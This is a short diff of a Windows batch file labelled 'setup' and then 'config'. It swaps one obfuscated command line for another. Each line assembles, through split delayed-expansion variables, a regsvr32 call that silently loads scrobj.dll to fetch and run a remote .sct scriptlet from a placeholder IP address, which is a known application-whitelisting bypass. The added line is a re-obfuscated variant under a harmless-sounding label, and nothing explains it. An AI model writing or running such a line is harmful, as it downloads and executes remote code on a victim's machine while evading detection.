@@ -1,2 +1,2 @@
-REM setup 0485 v2
-cmd /v:on /c "set nyd0=regsvr32 /s /n /u /i:http://203.0.11&&set fno1=3.17/file.sct scro&&set edw2=bj.dll&&!nyd0!!fno1!!edw2!"
+REM config 6064 v2
+cmd /v:on /c "set sml0=regsvr32 /s /n /u&&set rem1= /i:http://198.51.100.23/file.sct scrob&&set rij2=j.dll&&!sml0!!rem1!!rij2!"
